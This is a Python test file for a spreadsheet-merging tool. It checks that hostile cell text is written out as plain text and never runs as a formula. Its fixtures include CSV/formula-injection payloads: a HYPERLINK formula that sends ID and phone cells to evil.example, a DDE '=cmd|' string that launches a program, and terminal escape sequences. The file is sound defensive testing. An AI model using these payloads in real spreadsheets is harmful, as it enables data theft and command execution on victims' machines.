"""Text from cells stays text in every workbook dyxx writes (issue 11, points 7 and 8).

Two branch workbooks hold nothing but hostile text, in every column, in the
branch and organisation names, the 基层党委 line, the sheet and file names:
formulas an office suite would run (``=HYPERLINK(…)`` carrying the neighbours'
ID and phone, DDE ``=cmd|…``, ``+``/``-``/``@`` starts) and control characters
pasted from Word or a web page (a vertical tab, an escape sequence). Every
writing command runs on them in-process; every .xlsx it writes is opened as a
zip: no sheet holds a formula element, no part links outside the workbook, and
the hostile strings read back unchanged (control characters as their visible
pictures, ␋ for a vertical tab, where dyxx wrote the cell itself).
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl.workbook import Workbook
from python_calamine import CalamineWorkbook

from addin.model.celltext import for_cell, set_text
from addin.write.layout import DATA_ROW, add_table, columns, new_workbook
from tests.support.cli import dyxx_ok
from tests.support.xlsx import strings, with_controls

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&D7&M7,"点我")',
    "=1+1",
    "+86 138 0739 1234",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
)
CONTROLS = ("第一支部\x0b二组", "张\x01三", "\x1b]52;c;aGk=\x07", "\x1b]0;pwned\x07李四")
HOSTILE = FORMULAS + CONTROLS
COMMITTEE = '=HYPERLINK("http://evil.example")\x0b党委'
OLD, NEW = "=1+1.xlsx", "@SUM(A1).xlsx"
SHEETS = {OLD: ("@SUM(A1)", "=1+1"), NEW: ("-2+3", "+86 138")}  # 附件3, 附件4 sheet names
# A formula element in a sheet part: <f>, <f t="shared" …>, <f/>, with or without a prefix.
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")
# The only formulas dyxx writes on purpose: the 数据质量 chart's references to its own sheet.
ON_PURPOSE = {
    re.compile(r"xl/charts/chart\d+\.xml"): re.compile(
        r"'数据质量'!\$?[A-Z]+\$?\d+(?::\$[A-Z]+\$\d+)?"
    ),
}
CHART_REF = re.compile(rb"<(?:\w+:)?f>([^<]*)</(?:\w+:)?f>")


def _record(kind: str, index: int, shift: int) -> dict[str, str]:
    """Every field hostile; the key (ID, 党组织名称) is HOSTILE[index], the rest shifted."""
    key = "id_number" if kind == "members" else "org_name"
    other = HOSTILE[(index + shift) % len(HOSTILE)]
    fields = [k for _text, k in columns(kind) if k != "seq"]
    return {k: HOSTILE[index] if k == key or k == "branch" else other for k in fields}


def _hostile_book(path: Path, shift: int) -> Path:
    """A branch workbook as Excel saves it: text cells, control characters as _xHHHH_."""
    workbook: Workbook = new_workbook()
    for kind, title in zip(("orgs", "members"), SHEETS[path.name], strict=True):
        sheet = add_table(workbook, kind, [], title=title, committee="")
        set_text(sheet["A3"], f"基层党委：{COMMITTEE}")
        keys = [k for _text, k in columns(kind)]
        for index in range(len(HOSTILE)):
            record = {**_record(kind, index, shift), "seq": index + 1}
            for col, key in enumerate(keys, start=1):
                set_text(sheet.cell(row=DATA_ROW + index, column=col), record[key])
    buffer = io.BytesIO()
    workbook.save(buffer)
    path.write_bytes(with_controls(buffer.getvalue()))
    return path


@pytest.fixture(scope="module")
def books(tmp_path_factory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("hostile") / "报送"
    folder.mkdir()
    old, new = _hostile_book(folder / OLD, 0), _hostile_book(folder / NEW, 1)
    read = strings(old)
    assert set(HOSTILE) <= read and not any("␋" in s for s in read)  # the real characters
    return old, new


@pytest.fixture(scope="module")
def summary(books, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("summary") / "汇总.xlsx"
    dyxx_ok("merge", *books, "-o", out, "--date", "2017-07-10", "--today", "2024-06-01")
    return out


def _merge(books, summary, out: Path) -> list[Path]:
    named = out / "汇总_党委.xlsx"
    committee = "=1+1\x1b]0;x\x07\x0b党委"
    dyxx_ok("merge", *books, "-o", named, "--committee", committee)
    assert for_cell(f"基层党委：{committee}") in strings(named)
    return [summary, named]


def _sample(books, summary, out: Path) -> list[Path]:
    dyxx_ok("sample", summary, "-o", out / "抽查.xlsx", "--ratio", "1", "--seed", "7")
    dyxx_ok("sample", summary, "-o", out / "抽查_屏蔽.xlsx", "--ratio", "0.5", "--mask")
    return [out / "抽查.xlsx", out / "抽查_屏蔽.xlsx"]


def _diff(books, summary, out: Path) -> list[Path]:
    dyxx_ok("diff", *books, "-o", out / "变动.xlsx")
    return [out / "变动.xlsx"]


def _check(books, summary, out: Path) -> list[Path]:
    dyxx_ok("check", books[0], "-o", out / "校验.xlsx", "--today", "2024-06-01")
    return [out / "校验.xlsx"]


def _recheck(books, summary, out: Path) -> list[Path]:
    """A marked copy checked again: the openpyxl path, its 校验结果 rewritten."""
    _check(books, summary, out)
    dyxx_ok("check", out / "校验.xlsx", "-o", out / "再校验.xlsx", "--today", "2024-06-01")
    return [out / "再校验.xlsx"]


def _prepare(books, summary, out: Path) -> list[Path]:
    dyxx_ok("prepare", books[0], "-o", out / "带校验.xlsx")
    return [out / "带校验.xlsx"]


def _clean(books, summary, out: Path) -> list[Path]:
    dyxx_ok("check", summary, "-o", out / "汇总_校验.xlsx", "--today", "2024-06-01")
    dyxx_ok("clean", out / "汇总_校验.xlsx", "-o", out / "导入.xlsx")
    return [out / "汇总_校验.xlsx", out / "导入.xlsx"]


def _forms(books, summary, out: Path) -> list[Path]:
    dyxx_ok("forms", summary, "-o", out / "采集表", "--no-pdf")
    written = sorted((out / "采集表").glob("*.xlsx"))
    assert written
    return written


def _split(books, summary, out: Path) -> list[Path]:
    dyxx_ok("split", summary, "-o", out / "各支部")
    written = sorted((out / "各支部").glob("*.xlsx"))
    assert written
    return written


def _template(books, summary, out: Path) -> list[Path]:
    dyxx_ok("template", "--dir", out / "模板")
    return sorted((out / "模板").glob("*.xlsx"))


COMMANDS = {
    "merge": _merge,
    "sample": _sample,
    "diff": _diff,
    "check-o": _check,
    "re-check": _recheck,
    "prepare": _prepare,
    "clean": _clean,
    "forms": _forms,
    "split": _split,
    "template": _template,
}
CARRIES_DATA = set(COMMANDS) - {"template"}


@pytest.mark.parametrize("command", list(COMMANDS))
def test_hostile_text_is_written_as_text(books, summary, tmp_path, command):
    written = COMMANDS[command](books, summary, tmp_path)
    assert written and all(path.is_file() for path in written)
    for path in written:
        _assert_no_formula(path)
    if command in CARRIES_DATA:
        found = set().union(*map(strings, written))
        missing = [h for h in HOSTILE if h not in found and for_cell(h) not in found]
        assert not missing, f"{command}: not read back unchanged: {missing}"


def test_the_summary_tables_hold_every_value_as_written(books, summary):
    """Cell by cell: the 附件4 and 附件3 of the summary are the branch rows, as text."""
    book = CalamineWorkbook.from_path(str(summary))
    for kind, title in (("orgs", "附件3 党组织汇总表"), ("members", "附件4 党员汇总表")):
        rows = book.get_sheet_by_name(title).to_python()
        assert rows[2][0].startswith('基层党委：=HYPERLINK("http://evil.example")')
        keys = [k for _text, k in columns(kind)]
        got = rows[DATA_ROW - 1 : DATA_ROW - 1 + 2 * len(HOSTILE)]
        expected = [
            [n * len(HOSTILE) + i + 1] + [for_cell(record[k]) for k in keys[1:]]
            for n, shift in enumerate((0, 1))
            for i in range(len(HOSTILE))
            for record in [_record(kind, i, shift)]
        ]
        assert [[_plain(v) for v in row[: len(keys)]] for row in got] == expected


def test_the_only_formulas_are_the_quality_charts_own(summary):
    with zipfile.ZipFile(summary) as package:
        charts = [n for n in package.namelist() if n.startswith("xl/charts/chart")]
        refs = [r.decode() for n in charts for r in CHART_REF.findall(package.read(n))]
    assert refs and all(next(iter(ON_PURPOSE.values())).fullmatch(r) for r in refs), refs


def _plain(value: object) -> object:
    return int(value) if isinstance(value, float) and value.is_integer() else value


def _assert_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            data = package.read(name)
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in data, f"{path.name}: {name} links out"
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not FORMULA.search(data), f"{path.name}: formula in {name}"
            for part, allowed in ON_PURPOSE.items():
                if part.fullmatch(name):
                    refs = [r.decode() for r in CHART_REF.findall(data)]
                    assert all(allowed.fullmatch(r) for r in refs), (name, refs)
